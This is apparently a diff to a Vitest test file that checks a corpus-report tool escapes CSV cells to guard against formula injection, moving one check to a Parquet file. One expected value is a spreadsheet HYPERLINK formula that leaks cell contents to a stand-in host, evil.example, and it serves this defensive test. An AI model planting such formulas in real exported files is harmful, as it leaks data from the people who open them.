@@ -1,6 +1,7 @@
 import { readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { readParquet } from '@framelens/aggregate';
 import { tempRepo } from '@framelens/tools';
 import { main } from './main.js';
 
@@ -21,13 +22,13 @@ describe('CSV files of a corpus whose titles, sentences and outlet names look li
     await rm(repo, { recursive: true, force: true });
   });
 
-  it("articles.csv, outlets.csv and evidence.csv start such cells with ' (OWASP)", async () => {
+  it("articles.csv and outlets.csv start such cells with ' (OWASP); hits.parquet keeps the raw values", async () => {
     expect(await report('data/articles.csv')).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",`);
     expect(await report('data/outlets.csv')).toContain(`nd,"'@nd",`);
-    const evidence = await report('data/evidence.csv');
-    expect(evidence).toContain(`"'-Die Regierung sprach von „Terrorbanden“ und Terroristen."`);
+    const sentences = await readParquet<{ sentence: string }>(path.join(repo, 'reports', 'kazakhstan-2022', 'data', 'hits.parquet'), (t) => `SELECT DISTINCT sentence FROM ${t}`);
+    expect(sentences.map((s) => s.sentence)).toContain('-Die Regierung sprach von „Terrorbanden“ und Terroristen.');
     // no cell of any line starts a formula
-    for (const file of ['data/articles.csv', 'data/outlets.csv', 'data/evidence.csv', 'data/outlet-frames.csv']) {
+    for (const file of ['data/articles.csv', 'data/outlets.csv', 'data/outlet-frames.csv']) {
       for (const line of (await report(file)).split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+@]/);
     }
   });
